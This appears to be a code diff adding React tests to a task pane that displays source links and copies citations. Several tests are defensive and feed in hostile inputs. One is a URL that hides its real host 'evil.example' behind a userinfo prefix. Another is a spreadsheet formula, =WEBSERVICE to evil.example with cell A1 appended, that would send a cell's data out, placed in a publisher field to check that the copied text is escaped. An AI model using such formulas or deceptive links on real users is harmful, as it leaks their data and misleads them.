@@ -1,13 +1,15 @@
-import { act, render, screen, waitFor, within } from "@testing-library/react";
+import { act, cleanup, render, screen, waitFor, within } from "@testing-library/react";
 import userEvent from "@testing-library/user-event";
+import { Edition } from "../../src/core/edition";
+import type { Source } from "../../src/core/records/source";
 import type { View } from "../../src/taskpane/frame/view";
 import { Pane } from "../../src/taskpane/Pane";
 import { views } from "../../src/taskpane/views";
 import { paneEdition } from "../support/paneEdition";
 import { aHost, type PaneHost } from "../support/paneHost";
 
-const openPane = (host: PaneHost = aHost(), shown: readonly View[] = views) => {
-  const pane = render(<Pane edition={paneEdition} host={host} views={shown} />);
+const openPane = (host: PaneHost = aHost(), shown: readonly View[] = views, edition = paneEdition) => {
+  const pane = render(<Pane edition={edition} host={host} views={shown} />);
   return { user: userEvent.setup(), host, ...pane };
 };
 
@@ -139,6 +141,13 @@ describe("the filters", () => {
   });
 });
 
+/** The edition in which the document on the Gazette's page is otherwise. */
+const withGazette = (given: Partial<Source>) =>
+  Edition.of({
+    ...paneEdition.records,
+    sources: paneEdition.records.sources.map((one) => (one.id === "a-page" ? { ...one, ...given } : one)),
+  });
+
 const openDeal = async (host?: PaneHost) => {
   const opened = openPane(host);
   await opened.user.click(rows()[2] ?? document.body);
@@ -206,6 +215,31 @@ describe("a deal's page", () => {
     const refusing = await openDeal({ ...aHost(), copy: () => Promise.resolve(false) });
     await refusing.user.click(screen.getAllByRole("button", { name: "Copy citation" })[0] ?? document.body);
     await screen.findByText(citation);
+  });
+
+  it("says where a link leads, and whether what comes from there is encrypted", async () => {
+    await openDeal();
+    screen.getByText("(gazette.example)");
+    cleanup();
+    openPane(aHost(), views, withGazette({ url: "http://bücher.example:8080/fenwick" }));
+    await userEvent.click(rows()[2] ?? document.body);
+    screen.getByText("(xn--bcher-kva.example:8080, not encrypted)");
+  });
+
+  it("names the host that a link leads to, not the user before it, should older data have such a link", async () => {
+    openPane(aHost(), views, withGazette({ url: "https://openai.com@evil.example/" }));
+    await userEvent.click(rows()[2] ?? document.body);
+    screen.getByText("(evil.example)");
+  });
+
+  it("copies a citation that stays a text in a cell, whatever older data says", async () => {
+    const publisher = '=WEBSERVICE("https://evil.example/?"&A1)&"';
+    const { user, host } = openPane(aHost(), views, withGazette({ publisher }));
+    await user.click(rows()[2] ?? document.body);
+    await user.click(screen.getAllByRole("button", { name: "Copy citation" })[0] ?? document.body);
+    expect(host.copied).toEqual([
+      `'${publisher}, “Fenwick rents chips”, March 11, 2025, https://gazette.example/fenwick`,
+    ]);
   });
 
   it("puts the focus on the way back, in a region of its title, and gives it back to the row", async () => {
@@ -394,6 +428,15 @@ describe("the frame", () => {
         return <p>Whole again</p>;
       },
     };
+
+    it("leaves the other views as they are", async () => {
+      jest.spyOn(console, "error").mockImplementation(() => undefined);
+      const { user } = openPane(aHost(), [crashing, another]);
+      screen.getByRole("heading", { name: "The pane has stopped" });
+      await user.click(screen.getByRole("tab", { name: "Another" }));
+      screen.getByText("Something else");
+      jest.restoreAllMocks();
+    });
 
     it("says that the functions go on, and shows the pane again when asked", async () => {
       jest.spyOn(console, "error").mockImplementation(() => undefined);
